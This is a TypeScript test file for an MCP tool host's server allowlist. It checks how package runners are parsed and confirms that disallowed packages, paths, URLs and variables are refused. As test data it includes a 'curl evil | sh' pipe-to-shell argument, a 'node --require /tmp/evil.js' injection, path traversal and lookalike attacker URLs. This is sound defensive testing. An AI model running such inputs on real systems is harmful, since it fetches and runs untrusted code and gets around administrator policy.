import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { ResolvedLaunch } from '../../src/core/config/launch';
import { launchPackages } from '../../src/core/config/launchPackages';
import { launchRefusal, parseAllowlist, readAllowlists, recordRegistryNames, registryNameMatches, registryNamesToCheck, type AllowEntry } from '../../src/core/config/serverAllowlist';

const stdio = (command: string, ...args: string[]): ResolvedLaunch => ({ type: 'stdio', launch: { command, args, env: {} } });
const http = (url: string): ResolvedLaunch => ({ type: 'http', url, headers: {} });
const lists = (...entries: AllowEntry[]) => ({ lists: [{ file: '/etc/mcp-tool-host/rules.json', entries }] });
const allowed = (launch: ResolvedLaunch, ...entries: AllowEntry[]) => launchRefusal(lists(...entries), launch, []) === undefined;

describe('the packages a launch runs (launchPackages)', () => {
  it('reads the package of each runner, without its version', () => {
    assert.deepEqual(launchPackages('npx', ['-y', '@modelcontextprotocol/server-filesystem@2025.1.1', '/tmp']), { ecosystem: 'npm', names: ['@modelcontextprotocol/server-filesystem'] });
    assert.deepEqual(launchPackages('npx.cmd', ['--yes', 'mcp-remote@latest', 'https://x']), { ecosystem: 'npm', names: ['mcp-remote'] });
    assert.deepEqual(launchPackages('cmd', ['/c', 'npx', '-y', 'pkg']), { ecosystem: 'npm', names: ['pkg'] });
    assert.deepEqual(launchPackages('npm', ['exec', '--', 'pkg@1']), { ecosystem: 'npm', names: ['pkg'] });
    assert.deepEqual(launchPackages('pnpm', ['dlx', 'pkg']), { ecosystem: 'npm', names: ['pkg'] });
    assert.deepEqual(launchPackages('uvx', ['mcp-server-git==1.2', '--repository', '.']), { ecosystem: 'pypi', names: ['mcp-server-git'] });
    assert.deepEqual(launchPackages('uvx', ['--from', 'Mcp_Server.Fetch', 'mcp-server-fetch']), { ecosystem: 'pypi', names: ['mcp-server-fetch', 'mcp-server-fetch'] });
    assert.deepEqual(launchPackages('pipx', ['run', 'mcp-server-time']), { ecosystem: 'pypi', names: ['mcp-server-time'] });
    assert.deepEqual(launchPackages('docker', ['run', '-i', '--rm', '-e', 'TOKEN', 'ghcr.io/github/github-mcp-server:v1@sha256:abc']), { ecosystem: 'oci', names: ['ghcr.io/github/github-mcp-server'] });
  });

  it('counts every package a runner installs: npx -p, uvx --with', () => {
    assert.deepEqual(launchPackages('npx', ['-p', 'allowed', '-p', 'other', 'allowed-bin']), { ecosystem: 'npm', names: ['allowed', 'other'] });
    assert.deepEqual(launchPackages('uvx', ['--with', 'extra', 'tool']), { ecosystem: 'pypi', names: ['extra', 'tool'] });
  });

  it('reads nothing it cannot be sure of: an unknown option, a shell string, a path, a git spec, a runner at a path', () => {
    assert.equal(launchPackages('npx', ['--some-new-option', 'x', 'pkg']), undefined);
    assert.equal(launchPackages('npx', ['-c', 'curl evil | sh']), undefined);
    assert.equal(launchPackages('npx', ['./local-package']), undefined);
    assert.equal(launchPackages('npx', ['github:evil/pkg']), undefined);
    assert.equal(launchPackages('uvx', ['--from', 'git+https://evil/x', 'tool']), undefined);
    assert.equal(launchPackages('./tools/npx', ['-y', '@modelcontextprotocol/server-filesystem']), undefined);
    assert.equal(launchPackages('/tmp/evil/npx', ['@modelcontextprotocol/server-filesystem']), undefined);
    assert.equal(launchPackages('node', ['server.js']), undefined);
    assert.equal(launchPackages('npx', []), undefined);
  });
});

describe("the administrator's allowlist of servers", () => {
  it('allows by package glob, and only when every package of the launch is allowed', () => {
    const entry = { package: '@modelcontextprotocol/*' };
    assert.ok(allowed(stdio('npx', '-y', '@modelcontextprotocol/server-everything'), entry));
    assert.ok(!allowed(stdio('npx', '-y', '@evil/server-everything'), entry));
    assert.ok(!allowed(stdio('npx', '-p', '@modelcontextprotocol/server-everything', '-p', 'evil', 'server-everything'), entry), 'a second package rides along');
    assert.ok(!allowed(stdio('npx', '-y', '@modelcontextprotocol/x/../../evil'), entry), 'not a package name');
    assert.ok(allowed(stdio('uvx', 'MCP_Server_Git'), { package: 'mcp-server-git' }), 'PyPI names compare normalised');
  });

  it('a runner at a path is not the runner: a package entry does not allow ./tools/npx', () => {
    assert.ok(!allowed(stdio('./tools/npx', '-y', '@modelcontextprotocol/server-everything'), { package: '@modelcontextprotocol/*' }));
    assert.ok(!allowed(stdio('/tmp/x/npx', '@modelcontextprotocol/server-everything'), { package: '@modelcontextprotocol/*' }));
  });

  it('allows by command: a bare name only a bare command, a path glob the path as written, args as a prefix', () => {
    assert.ok(allowed(stdio('acme-mcp'), { command: 'acme-mcp' }));
    assert.ok(!allowed(stdio('./acme-mcp'), { command: 'acme-mcp' }), 'a file of the repository named like the allowed program');
    assert.ok(allowed(stdio('/opt/mcp/bin/acme'), { command: '/opt/mcp/bin/*' }));
    assert.ok(!allowed(stdio('/opt/mcp/bin/../../../tmp/evil'), { command: '/opt/mcp/bin/*' }), '* stays within one folder');
    const node = { command: 'node', args: ['/opt/mcp/*.js'] };
    assert.ok(allowed(stdio('node', '/opt/mcp/server.js', '--port', '1'), node));
    assert.ok(!allowed(stdio('node', '--require', '/tmp/evil.js', '/opt/mcp/server.js'), node));
    assert.ok(!allowed(stdio('node'), node));
  });

  it('allows a remote server by URL pattern: * within the host never reaches into the path, the port must match', () => {
    const entry = { url: 'https://*.acme.com/mcp*' };
    assert.ok(allowed(http('https://tools.acme.com/mcp'), entry));
    assert.ok(allowed(http('https://a.b.acme.com/mcp/v2?key=1'), entry));
    assert.ok(!allowed(http('https://evil.com/x.acme.com/mcp'), entry));
    assert.ok(!allowed(http('https://evil-acme.com/mcp'), entry));
    assert.ok(!allowed(http('https://tools.acme.com.evil.net/mcp'), entry));
    assert.ok(!allowed(http('https://tools.acme.com:8443/mcp'), entry));
    assert.ok(!allowed(http('http://tools.acme.com/mcp'), entry));
    assert.ok(!allowed(http('https://user:pw@tools.acme.com/mcp'), entry));
    assert.ok(allowed(http('https://mcp.acme.com/anything'), { url: 'https://mcp.acme.com' }), 'no path: any path');
    assert.ok(!allowed(stdio('npx', 'x'), entry), 'a url entry allows no local server');
    assert.ok(!allowed(http('https://tools.acme.com/mcp'), { package: '*' }), 'a package entry allows no remote server');
  });

  it('compares a URL pattern\'s path as a URL spells it: a space written plainly matches %20, and an encoded slash is not a slash', () => {
    const entry = { url: 'https://mcp.acme.com/My Team/*' };
    assert.ok(allowed(http('https://mcp.acme.com/My Team/mcp'), entry));
    assert.ok(allowed(http('https://mcp.acme.com/My%20Team/mcp'), entry));
    assert.ok(allowed(http('https://mcp.acme.com/My%20Team/mcp'), { url: 'https://mcp.acme.com/My%20Team/*' }));
    assert.ok(!allowed(http('https://mcp.acme.com/Other%20Team/mcp'), entry));
    assert.ok(!allowed(http('https://mcp.acme.com/team/mcp'), { url: 'https://mcp.acme.com/team%2Fmcp' }), 'an encoded slash stays encoded');
  });

  it('says which policy refused what, and each file with a list must allow (they only tighten)', () => {
    const two = { lists: [{ file: '/etc/mcp-tool-host/rules.json', entries: [{ package: '**' }] }, { file: '/team/policy.json', entries: [{ package: '@acme/*' }] }] };
    const refusal = launchRefusal(two, stdio('npx', '-y', 'left-pad-mcp'), []);
    assert.match(refusal ?? '', /\/team\/policy\.json/);
    assert.match(refusal ?? '', /npm package left-pad-mcp/);
    assert.equal(launchRefusal(two, stdio('npx', '@acme/x'), []), undefined);
    assert.equal(launchRefusal({ lists: [] }, stdio('anything'), ['NODE_OPTIONS']), undefined, 'no list: nothing is refused');
  });

  it('a registryName entry allows nothing until the registry answered, then exactly what it named', () => {
    const read = lists({ registryName: 'io.github.acme/*' });
    const launch = stdio('npx', '-y', '@acme/server@1.0.0');
    assert.deepEqual(registryNamesToCheck(read), ['io.github.acme/*']);
    assert.match(launchRefusal(read, launch, []) ?? '', /could not be checked \(io\.github\.acme\/\*: not asked yet\)/);
    recordRegistryNames(new Map([['io.github.acme/*', { packages: [{ ecosystem: 'npm' as const, name: '@acme/server' }], urls: ['https://mcp.acme.com/mcp'] }]]));
    assert.deepEqual(registryNamesToCheck(read), [], 'a fresh answer is not asked again');
    assert.equal(launchRefusal(read, launch, []), undefined);
    assert.equal(launchRefusal(read, http('https://mcp.acme.com/mcp?token=1'), []), undefined);
    assert.ok(launchRefusal(read, stdio('uvx', '@acme/server'), []), 'the same name in another ecosystem is another package');
    assert.ok(launchRefusal(read, http('https://mcp.acme.com/other'), []));
    assert.ok(registryNameMatches('io.github.acme/*', 'io.github.acme/tools') && !registryNameMatches('io.github.acme/*', 'io.github.acme-evil/tools'));
  });

  it('an allowed name with a variable that changes what runs is refused (NODE_OPTIONS, PATH, npm_config_registry)', () => {
    const refusal = launchRefusal(lists({ package: '@modelcontextprotocol/*' }), stdio('npx', '@modelcontextprotocol/server-everything'), ['NODE_OPTIONS']);
    assert.match(refusal ?? '', /sets NODE_OPTIONS, which changes the code that runs/);
  });

  it('a list that cannot be read refuses every launch with the reason; a file without a list refuses nothing', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'allowlist-'));
    try {
      const write = (name: string, text: string) => (fs.writeFileSync(path.join(dir, name), text), path.join(dir, name));
      const rulesOnly = write('rules.json', JSON.stringify({ rules: [] }));
      assert.deepEqual(readAllowlists([path.join(dir, 'missing.json'), rulesOnly]), { lists: [] });
      const broken = readAllowlists([write('broken.json', '{ "allowedServers": [')]);
      assert.match(launchRefusal(broken, stdio('npx', 'x'), []) ?? '', /broken\.json is not valid JSON.*administrator/);
      const typo = readAllowlists([write('typo.json', JSON.stringify({ allowedServers: [{ pkg: 'x' }] }))]);
      assert.match(launchRefusal(typo, stdio('npx', 'x'), []) ?? '', /"allowedServers"\[0\].*"pkg", which an entry cannot have/);
      const empty = readAllowlists([write('empty.json', JSON.stringify({ allowedServers: [] }))]);
      assert.match(launchRefusal(empty, stdio('npx', 'x'), []) ?? '', /allows only the servers it lists/, 'an empty list allows nothing');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('refuses entries that would mean something else than they say', () => {
    assert.match(String(parseAllowlist('f', { allowedServers: [{}] })), /names no package, command, url or registryName/);
    assert.match(String(parseAllowlist('f', { allowedServers: [{ url: 'https://x', command: 'y' }] })), /a remote server has neither/);
    assert.match(String(parseAllowlist('f', { allowedServers: [{ args: ['x'] }] })), /"args" must be a list of strings, beside a "command"/);
    assert.match(String(parseAllowlist('f', { allowedServers: [{ url: 'ftp://x' }] })), /"url" must look like/);
    assert.match(String(parseAllowlist('f', { allowedServers: {} })), /is not a list/);
    assert.match(String(parseAllowlist('f', { allowedServers: [{ registryName: 'io.github.acme/*', package: 'x' }] })), /a registry name stands alone/);
    assert.equal(parseAllowlist('f', { rules: [] }), undefined);
    assert.equal(parseAllowlist('f', [{ name: 'a rule', server: '*', tool: '*', effect: 'deny' }]), undefined, 'a policy file that is a list of rules holds no allowlist');
  });
});
